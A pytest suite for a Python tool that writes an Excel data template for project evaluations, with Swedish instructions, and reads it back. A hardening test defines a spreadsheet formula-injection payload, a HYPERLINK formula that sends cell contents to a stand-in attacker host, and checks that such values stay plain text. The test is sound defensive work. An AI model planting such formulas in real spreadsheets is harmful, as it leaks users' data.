"""Tests for evaluation.authoring.workbook (the Excel template and reading it back) and for the financing
table it writes (evaluation.io.loader): sheets, headers, drop-downs, Swedish instructions, identical
bytes, exact round trips, problems named by sheet and row with nothing written."""

from __future__ import annotations

import io
import os
import shutil
import subprocess
import sys
import zipfile
from datetime import date
from pathlib import Path
from typing import get_args

import openpyxl
import pandas.testing as pdt
import pytest
from conftest import minimal_spec, write_project

from evaluation.authoring.scaffold import create_project
from evaluation.authoring.workbook import (
    INSTRUCTION_SHEET,
    LISTS_SHEET,
    TABLE_SHEETS,
    import_workbook,
    table_columns,
    workbook_bytes,
    write_template,
)
from evaluation.cli.main import build_parser, main
from evaluation.core import paths
from evaluation.core.errors import InputError
from evaluation.core.model import DataStatus, Financier, FinancierKind, Project, ValueStatus
from evaluation.io.loader import FINANCING_COLUMNS, load_project

REPO = paths.PACKAGE_DIR.parent
FRAMES = ("firms", "participation", "survey", "survey_invited")


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """EVALUATION_HOME holding a copy of the repository's data/ and params/."""
    shutil.copytree(REPO / "data", tmp_path / "data")
    shutil.copytree(REPO / "params", tmp_path / "params")
    monkeypatch.setenv("EVALUATION_HOME", str(tmp_path))
    return tmp_path


def template(home: Path, pid: str) -> tuple[Path, openpyxl.Workbook]:
    path = write_template(pid, home / "book.xlsx")
    return path, openpyxl.load_workbook(path)


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


def validation_values(wb: openpyxl.Workbook, sheet: str, column: str) -> tuple[str, ...]:
    """The values a column's drop-down offers (read from the hidden list sheet)."""
    ws = wb[sheet]
    header = [c.value for c in ws[1]]
    letter = openpyxl.utils.get_column_letter(header.index(column) + 1)
    hits = [dv for dv in ws.data_validations.dataValidation if str(dv.sqref) == f"{letter}2:{letter}1048576"]
    assert len(hits) == 1, (sheet, column)
    dv = hits[0]
    assert dv.type == "list" and dv.showErrorMessage
    ref = dv.formula1.split("!")[1].replace("$", "")
    return tuple(c.value for (c,) in wb[LISTS_SHEET][ref])


# --------------------------------------------------------------------------- template


def test_template_sheets_and_headers(home: Path) -> None:
    """Instructions first, one sheet per table, the list sheet hidden last; row 1 = column names, bold, frozen, commented."""
    _, wb = template(home, "nis60")
    assert wb.sheetnames == [INSTRUCTION_SHEET, *TABLE_SHEETS.values(), LISTS_SHEET]
    assert wb[LISTS_SHEET].sheet_state == "hidden"
    assert TABLE_SHEETS["costs"] == "Budget" and TABLE_SHEETS["financing"] == "Finansiering"
    for table, columns in table_columns().items():
        ws = wb[TABLE_SHEETS[table]]
        assert [c.value for c in ws[1]] == [c.name for c in columns]
        assert all(c.font.bold for c in ws[1]) and ws.freeze_panes == "A2"
        assert all(c.comment is not None and c.comment.text.startswith(f"{c.value}: ") for c in ws[1])
    assert "ÅÅÅÅ-MM-DD" in wb["Indikatorvärden"]["B1"].comment.text
    assert "kronor" in wb["Budget"]["B1"].comment.text
    # no second header row: row 2 is the first data row of indicator_values.csv
    assert [c.value for c in wb["Indikatorvärden"][2]][:5] == ["firms_reached", "2022-12-31", 503, "verified", "slutrapport"]
    assert wb["Enkätsvar"].max_row == 1  # nis60 has no survey: header only


def test_template_drop_downs(home: Path) -> None:
    """Drop-downs offer the project's indicator, activity and work-package ids and the closed sets."""
    _, wb = template(home, "hso")
    hso = load_project("hso")
    assert validation_values(wb, "Indikatorvärden", "indicator") == tuple(i.id for i in hso.indicators)
    assert validation_values(wb, "Indikatorvärden", "status") == get_args(ValueStatus)
    activities = tuple(n.id for n in hso.goal_tree.nodes if n.level == "activity")
    assert activities == ("a11", "a12", "a21", "a22", "a31", "a41")
    assert validation_values(wb, "Aktiviteter", "activity") == activities
    assert validation_values(wb, "Deltagande företag", "activity") == activities
    assert validation_values(wb, "Budget", "work_package") == tuple(w.id for w in hso.work_packages)
    assert validation_values(wb, "Företagsdata", "participant") == ("ja", "nej")
    assert validation_values(wb, "Finansiering", "kind") == get_args(FinancierKind)
    assert validation_values(wb, "Finansiering", "in_kind") == ("ja", "nej")
    for sheet in set(TABLE_SHEETS.values()) - {"Enkät inbjudna", "Intervjuutdrag", "Teman"}:  # these have no data_status
        assert validation_values(wb, sheet, "data_status") == get_args(DataStatus)


def test_instruction_sheet_in_swedish(home: Path) -> None:
    """The instruction sheet explains in Swedish: empty = not reported, never 0; decimal comma; each sheet and column."""
    _, wb = template(home, "nis60")
    ws = wb[INSTRUCTION_SHEET]
    text = "\n".join(str(c.value) for row in ws.iter_rows() for c in row if c.value is not None)
    assert ws["A1"].value == "Datamall för utvärderingen av Näringsliv i samverkan NIS 6.0 (nis60)"
    for phrase in ("En tom cell betyder \"inte redovisat\"", "Skriv aldrig 0", "decimalkomma går bra",
                   "ÅÅÅÅ-MM-DD", "rullgardinslista", "evaluation import nis60 <fil>.xlsx", "kronor"):
        assert phrase in text, phrase
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    for table, sheet in TABLE_SHEETS.items():
        assert [sheet, f"{table}.csv"] == rows[[r[0] for r in rows].index(sheet)][:2]
        for col in table_columns()[table]:
            assert any(r[0] == sheet and r[1] == col.name and r[3] for r in rows), (sheet, col.name)
    assert ["firms_reached", "Antal företag som nåtts av projektet", "företag", 400] in [r[:4] for r in rows]


def test_template_prefilled_with_financiers_of_yaml(home: Path) -> None:
    """The financing sheet shows the financiers of project.yaml; yes/no cells in Swedish."""
    _, wb = template(home, "nis60")
    ws = wb["Finansiering"]
    assert ws.max_row == 8
    assert [c.value for c in ws[2]] == ["Tillväxtverket", "state", 7735351, "nej", "published", None, "outcome"]
    assert wb["Företagsdata"]["H2"].value == "ja"


def test_template_byte_identical(home: Path) -> None:
    """The same project gives the same bytes: twice in one process and once under another hash seed."""
    first = workbook_bytes(load_project("hso"))
    assert workbook_bytes(load_project("hso")) == first
    env = {**os.environ, "PYTHONHASHSEED": "12345", "EVALUATION_HOME": str(home)}
    code = "import sys; from evaluation.authoring.workbook import workbook_bytes; from evaluation.io.loader import load_project; " \
           "sys.stdout.buffer.write(workbook_bytes(load_project('hso')))"
    other = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, check=True).stdout
    assert other == first
    with zipfile.ZipFile(io.BytesIO(first)) as z:
        core = z.read("docProps/core.xml").decode()
        assert {i.date_time for i in z.infolist()} == {(2024, 1, 1, 0, 0, 0)}
    assert core.count("2024-01-01T00:00:00Z") == 2


def test_template_needs_valid_id_and_xlsx(home: Path) -> None:
    """template refuses a path as project id and an output name not ending in .xlsx."""
    with pytest.raises(InputError, match=r"'project' in the command line must be a project id, not a path"):
        write_template("../nis60")
    with pytest.raises(InputError) as info:
        write_template("nis60", home / "book.csv")
    assert str(info.value) == f"'-o' in the command line must be a file name ending in .xlsx (got '{home / 'book.csv'}')"


def test_template_default_path(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`evaluation template` without -o writes reports/<id>/<id>_datamall.xlsx and says so."""
    assert main(["template", "sam"]) == 0
    assert capsys.readouterr().out == "wrote reports/sam/sam_datamall.xlsx\n"
    assert (home / "reports" / "sam" / "sam_datamall.xlsx").is_file()


# --------------------------------------------------------------------------- round trips


def assert_same_project(a: Project, b: Project) -> None:
    assert a == b
    for name in FRAMES:
        x, y = getattr(a, name), getattr(b, name)
        assert (x is None) == (y is None), name
        if x is not None:
            pdt.assert_frame_equal(x, y)


@pytest.mark.parametrize("pid, tables", [
    ("nis60", {"activities", "costs", "firms", "indicator_values", "dissemination"}),
    ("hso", {"activities", "costs", "indicator_values", "participation", "survey", "survey_invited", "interviews", "excerpts",
             "themes"}),
])
def test_round_trip_is_exact(home: Path, pid: str, tables: set[str]) -> None:
    """template -> import (tables removed first) -> load gives exactly the project of the CSV route."""
    original = load_project(pid)
    path, _ = template(home, pid)
    folder = home / "data" / pid
    for table in tables:
        (folder / f"{table}.csv").unlink()
    written = import_workbook(pid, path)
    assert {w.table for w in written} == tables
    assert sorted(p.name for p in folder.iterdir() if p.is_file()) == sorted(["project.yaml", *(f"{t}.csv" for t in tables)])
    assert_same_project(load_project(pid), original)


def test_import_of_untouched_template_keeps_data(home: Path) -> None:
    """Importing the untouched template of a project rewrites its tables with the same data."""
    original = load_project("nis60")
    path, _ = template(home, "nis60")
    import_workbook("nis60", path)
    assert_same_project(load_project("nis60"), original)


# --------------------------------------------------------------------------- problems


def test_import_names_sheet_and_row_and_writes_nothing(home: Path) -> None:
    """'abc' in a number column and an unknown indicator id are named with sheet and row; files unchanged."""
    path, wb = template(home, "nis60")
    ws = wb["Indikatorvärden"]
    ws["C3"] = "abc"
    ws["A4"] = "nope"
    wb["Aktiviteter"]["C5"] = "många"
    wb.save(path)
    folder = home / "data" / "nis60"
    before = snapshot(folder)
    with pytest.raises(InputError) as info:
        import_workbook("nis60", path)
    found = {(p.file, p.field, p.row, p.got): p for p in info.value.problems}
    assert set(found) == {
        ("book.xlsx[Indikatorvärden]", "value", 3, "abc"),
        ("book.xlsx[Indikatorvärden]", "indicator", 4, "nope"),
        ("book.xlsx[Aktiviteter]", "count", 5, "många"),
    }
    assert found[("book.xlsx[Indikatorvärden]", "value", 3, "abc")].message().startswith(
        "'value' in book.xlsx[Indikatorvärden] row 3 must be a number")
    assert found[("book.xlsx[Indikatorvärden]", "indicator", 4, "nope")].message() == (
        "'indicator' in book.xlsx[Indikatorvärden] row 4 must be the id of an indicator in project.yaml (got 'nope')")
    assert snapshot(folder) == before


def test_import_rows_counted_as_the_sheet_shows_them(home: Path) -> None:
    """Blank rows are skipped, and a problem below them keeps the row number Excel shows."""
    path, wb = template(home, "nis60")
    ws = wb["Budget"]
    ws["A10"], ws["B10"], ws["C10"] = "Övrigt", "tio", 5
    wb.save(path)
    with pytest.raises(InputError) as info:
        import_workbook("nis60", path)
    assert [(p.file, p.field, p.row) for p in info.value.problems] == [("book.xlsx[Budget]", "budget", 10)]


def test_import_unknown_sheet_and_column(home: Path) -> None:
    """A sheet the template does not have and a misspelt header are problems."""
    path, wb = template(home, "nis60")
    wb.create_sheet("Blad1")["A1"] = "x"
    wb["Budget"]["A1"] = "kategori"
    wb.save(path)
    with pytest.raises(InputError) as info:
        import_workbook("nis60", path)
    messages = [p.message() for p in info.value.problems]
    assert ("'sheet' in book.xlsx must be one of the template's sheets (" + ", ".join(TABLE_SHEETS.values())
            + ") (got 'Blad1')") in messages
    assert "'category' in book.xlsx[Budget] row 1 must be present as a column (got 'no such column')" in messages


def test_import_refuses_to_empty_a_table(home: Path) -> None:
    """A sheet emptied of its rows is a problem when the project's table has rows (never emptied by accident)."""
    path, wb = template(home, "nis60")
    wb["Budget"].delete_rows(2, 10)
    wb.save(path)
    with pytest.raises(InputError) as info:
        import_workbook("nis60", path)
    assert str(info.value) == ("'rows' in book.xlsx[Budget] row 2 must be the rows of the table "
                               "(data/nis60/costs.csv has 5; to remove a table, delete that file) (got 'no rows')")


def test_import_unreadable_workbook(home: Path) -> None:
    """A file that is not a workbook is one problem naming it."""
    bad = home / "book.xlsx"
    bad.write_text("not excel", encoding="utf-8")
    with pytest.raises(InputError) as info:
        import_workbook("nis60", bad)
    assert info.value.problems[0].file == "book.xlsx" and info.value.problems[0].field == "file"


def test_import_needs_a_plain_project_id(home: Path) -> None:
    """import refuses a path as project id."""
    with pytest.raises(InputError, match=r"must be a project id, not a path"):
        import_workbook("../data/nis60", home / "book.xlsx")


# --------------------------------------------------------------------------- new project through Excel


def test_new_project_filled_through_template(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """new -> template -> team fills values (decimal comma, Excel dates) and financiers -> import -> loads."""
    create_project("fresh", start=date(2025, 1, 1), end=date(2027, 12, 31))
    assert main(["template", "fresh", "-o", str(home / "book.xlsx")]) == 0
    assert main(["import", "fresh", str(home / "book.xlsx")]) == 0  # untouched: every sheet empty
    assert capsys.readouterr().out.endswith("nothing to import: every sheet is empty or repeats project.yaml\n")
    wb = openpyxl.load_workbook(home / "book.xlsx")
    wb["Indikatorvärden"].append(["ind1", "2025-06-30", "12,5", "preliminary", "src1"])
    ws = wb["Aktiviteter"]
    ws.append(["a1", None, 3])
    ws["B2"] = date(2025, 6, 30)  # Excel turned the typed date into a date cell
    wb["Budget"].append(["Personal", "1 234 567", None, "ap1"])
    wb["Finansiering"].append(["Tillväxtverket", "state", 500000, "nej"])
    wb["Finansiering"].append(["Vindelns kommun", "municipality", None, "ja", "estimated", "arbetstid"])
    wb.save(home / "book.xlsx")
    assert main(["import", "fresh", str(home / "book.xlsx")]) == 0
    assert capsys.readouterr().out.splitlines() == [
        "wrote data/fresh/indicator_values.csv (1 rows from sheet Indikatorvärden)",
        "wrote data/fresh/activities.csv (1 rows from sheet Aktiviteter)",
        "wrote data/fresh/costs.csv (1 rows from sheet Budget)",
        "wrote data/fresh/financing.csv (2 rows from sheet Finansiering)",
    ]
    project = load_project("fresh")
    assert project.indicator("ind1").values[0].value == 12.5
    assert project.activities[0].period_end == date(2025, 6, 30) and project.activities[0].count == 3
    assert project.budget.lines[0].budget == 1234567 and project.budget.lines[0].outcome is None
    assert project.financiers == (
        Financier("Tillväxtverket", "state", 500000.0, False, "published", ""),
        Financier("Vindelns kommun", "municipality", None, True, "estimated", "arbetstid"),
    )


def test_changed_financing_sheet_conflicts_with_yaml(home: Path) -> None:
    """Editing the financiers shown from project.yaml is a problem on the financing sheet (not both)."""
    path, wb = template(home, "nis60")
    wb["Finansiering"]["C2"] = 1
    wb.save(path)
    with pytest.raises(InputError) as info:
        import_workbook("nis60", path)
    assert str(info.value) == ("'financiers' in book.xlsx[Finansiering] must be in project.yaml or financing.csv, "
                               "not both (got '7 in project.yaml, 7 in financing.csv')")


def test_cli_import_error_exit_2(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`evaluation import` with a bad cell prints the problem and exits 2."""
    path, wb = template(home, "nis60")
    wb["Budget"]["C2"] = "x"
    wb.save(path)
    assert main(["import", "nis60", str(path)]) == 2
    assert capsys.readouterr().err.startswith("error: 'outcome' in book.xlsx[Budget] row 2 must be a number")


@pytest.mark.parametrize("command, last", [
    ("template", "(send the file to the project team; read it back with: evaluation import nis60 nis60_datamall.xlsx)"),
    ("import", "evaluation validate nis60"),
])
def test_help_ends_with_example(command: str, last: str, capsys: pytest.CaptureFixture[str]) -> None:
    """--help of template and import says what the command does and ends with an example."""
    with pytest.raises(SystemExit):
        build_parser().parse_args([command, "--help"])
    out = capsys.readouterr().out
    assert "example:" in out and out.rstrip().endswith(last)
    assert ("instruction sheet in Swedish" if command == "template" else "all or nothing") in " ".join(out.split())


# --------------------------------------------------------------------------- financing table (loader)


FINANCING_CSV = ("name,kind,amount,in_kind,data_status,note\n"
                 "EU,eu,600,no,published,\n"
                 "Kommunen,municipality,,ja,estimated,arbetstid\n")


def test_financing_table_loads(tmp_path: Path) -> None:
    """financing.csv supplies the financiers when project.yaml has none (empty amount = not reported)."""
    spec = minimal_spec()
    spec["financiers"] = []
    project = load_project(write_project(tmp_path, spec, {"financing": FINANCING_CSV}))
    assert project.financiers == (Financier("EU", "eu", 600.0, False, "published", ""),
                                  Financier("Kommunen", "municipality", None, True, "estimated", "arbetstid"))
    assert [c.name for c in FINANCING_COLUMNS] == ["name", "kind", "amount", "in_kind", "data_status", "note", "basis"]


def test_financing_table_conflicts_with_yaml(tmp_path: Path) -> None:
    """Financiers in project.yaml and in financing.csv is one problem naming both."""
    folder = write_project(tmp_path, minimal_spec(), {"financing": FINANCING_CSV})
    with pytest.raises(InputError) as info:
        load_project(folder)
    assert str(info.value) == (f"'financiers' in {paths.display_path(folder / 'financing.csv')} must be in project.yaml "
                               "or financing.csv, not both (got '1 in project.yaml, 2 in financing.csv')")


def test_financing_table_cells_checked(tmp_path: Path) -> None:
    """A kind outside the closed set and a negative amount are problems with their rows."""
    spec = minimal_spec()
    spec["financiers"] = []
    folder = write_project(tmp_path, spec, {"financing": "name,kind,amount\nEU,eu,-5\nX,bank,1\n"})
    with pytest.raises(InputError) as info:
        load_project(folder)
    assert {(p.field, p.row, p.expectation) for p in info.value.problems} == {
        ("amount", 2, "a number >= 0"),
        ("kind", 3, "one of eu, state, region, municipality, private, other"),
    }


def test_empty_financing_table_with_yaml_financiers(tmp_path: Path) -> None:
    """A header-only financing table beside financiers in project.yaml is no conflict."""
    folder = write_project(tmp_path, minimal_spec(), {"financing": "name,kind,amount\n"})
    assert load_project(folder).financiers == (Financier("EU", "eu", 1000.0),)


def test_english_template_reads_back(home: Path) -> None:
    """lang='en' names the sheets and writes the help in English; import tells the language by the instruction sheet."""
    path = write_template("nis60", home / "book.xlsx", lang="en")
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames[:3] == ["Instructions", "Indicator values", "Activities"] and wb.sheetnames[-1] == "Lists"
    assert wb["Instructions"]["A1"].value == "Data template for the evaluation of Näringsliv i samverkan NIS 6.0 (nis60)"
    assert wb["Budget"]["B1"].comment.text == "budget: Budgeted amount in kronor. Empty = not reported.\nRequired: yes (empty = not reported)."
    original = load_project("nis60")
    (home / "data" / "nis60" / "costs.csv").unlink()
    assert [w.table for w in import_workbook("nis60", path) if w.table == "costs"] == ["costs"]
    assert_same_project(load_project("nis60"), original)


# --------------------------------------------------------------------------- hardening

FORMULA = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Klicka")'


def test_values_from_data_are_never_written_as_formulas(home: Path) -> None:
    """A work-package id that looks like a formula is text in every sheet (no <f> in the file) and reads back as that text."""
    spec = minimal_spec()
    spec["work_packages"][0]["id"] = FORMULA
    spec["goal_tree"] = [{**g, "work_package": FORMULA} if g.get("work_package") == "wp1" else g for g in spec["goal_tree"]]
    write_project(home / "data", spec, {"costs": [{"category": "Personal", "budget": 1000, "outcome": 900,
                                                   "work_package": FORMULA}]})
    path = write_template("mini", home / "book.xlsx")
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
    wb = openpyxl.load_workbook(path)
    hits = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == FORMULA]
    assert {c.parent.title for c in hits} >= {LISTS_SHEET, TABLE_SHEETS["costs"]}
    assert all(c.data_type == "s" for c in hits)
    import_workbook("mini", path)
    assert "Personal,1000,900," + '"' + FORMULA.replace('"', '""') + '"' in (home / "data" / "mini" / "costs.csv").read_text(encoding="utf-8")


def _formatted_far_corner(path: Path, **values: object) -> None:
    """Format the last cell of Excel (XFD1048576) on the budget sheet of a saved template, and set ``values`` there."""
    from openpyxl.styles import Font

    wb = openpyxl.load_workbook(path)
    ws = wb[TABLE_SHEETS["costs"]]
    ws["XFD1048576"].font = Font(bold=True)
    for ref, value in values.items():
        ws[ref] = value
    wb.save(path)


def test_import_of_a_workbook_formatted_to_the_last_cell(home: Path) -> None:
    """A template formatted at XFD1048576 imports (only cells holding values are read), no MemoryError."""
    original = load_project("nis60")
    path, _ = template(home, "nis60")
    _formatted_far_corner(path)
    import_workbook("nis60", path)
    assert_same_project(load_project("nis60"), original)


def test_import_value_beyond_the_limits_is_one_problem(home: Path) -> None:
    """A value in row 1 048 576 of a sheet is a problem naming the sheet and the limit; nothing is written."""
    path, _ = template(home, "nis60")
    _formatted_far_corner(path, A1048576="x")
    before = snapshot(home / "data" / "nis60")
    with pytest.raises(InputError) as info:
        import_workbook("nis60", path)
    assert [(p.file, p.expectation) for p in info.value.problems] == [
        (f"book.xlsx[{TABLE_SHEETS['costs']}]", "a table of at most 200 000 rows holding values")]
    assert snapshot(home / "data" / "nis60") == before


def test_import_workbook_over_the_size_limit(home: Path) -> None:
    """A workbook over 50 MB is one problem naming its size, not read."""
    big = home / "book.xlsx"
    with open(big, "wb") as f:
        f.truncate(60_000_000)
    with pytest.raises(InputError) as info:
        import_workbook("nis60", big)
    assert [(p.field, p.got) for p in info.value.problems] == [("file", "a file of 60 000 000 bytes")]


# --------------------------------------------------------------------------- qualitative sheets (issue 12)


def test_template_has_the_qualitative_sheets(home: Path) -> None:
    """Dissemination, interviews, excerpts and themes: a sheet each, help on every column, drop-downs for the closed sets."""
    _, wb = template(home, "hso")
    for table, sheet in (("dissemination", "Spridning"), ("interviews", "Intervjuer"), ("excerpts", "Intervjuutdrag"),
                         ("themes", "Teman")):
        assert TABLE_SHEETS[table] == sheet
        assert [c.value for c in wb[sheet][1]] == [c.name for c in table_columns()[table]]
    assert "aldrig 0" in wb["Spridning"]["F1"].comment.text  # reach: empty = not reported
    assert "aldrig ett namn" in wb["Intervjuer"]["D1"].comment.text  # role
    assert validation_values(wb, "Intervjuer", "group")[:2] == ("project_manager", "participating_firm")
    assert validation_values(wb, "Intervjuer", "consent_to_quote") == ("ja", "nej")
    assert validation_values(wb, "Intervjuutdrag", "stance") == ("positive", "neutral", "negative")
    assert "policy_contact" in validation_values(wb, "Spridning", "channel")
    assert [c.value for c in wb["Intervjuer"][2]] == ["i01", "2025-05-06", "project_manager", "Projektledare", "individual", "ja",
                                                      "illustrative"]


def test_import_refuses_a_name_column_in_interviews(home: Path) -> None:
    """A name column added to the interviews sheet is one problem naming the sheet's header row; nothing is written."""
    path, wb = template(home, "hso")
    ws = wb["Intervjuer"]
    ws.cell(row=1, column=ws.max_column + 1, value="name")
    ws.cell(row=2, column=ws.max_column, value="Anna Andersson")
    wb["Intervjuutdrag"]["A3"] = "i99"
    wb.save(path)
    before = (home / "data" / "hso" / "interviews.csv").read_bytes()
    with pytest.raises(InputError) as info:
        import_workbook("hso", path)
    found = {(p.file, p.field, p.row): p for p in info.value.problems}
    assert set(found) == {("book.xlsx[Intervjuer]", "name", 1), ("book.xlsx[Intervjuutdrag]", "interview", 3)}
    assert "person's name" in found[("book.xlsx[Intervjuer]", "name", 1)].expectation
    assert (home / "data" / "hso" / "interviews.csv").read_bytes() == before
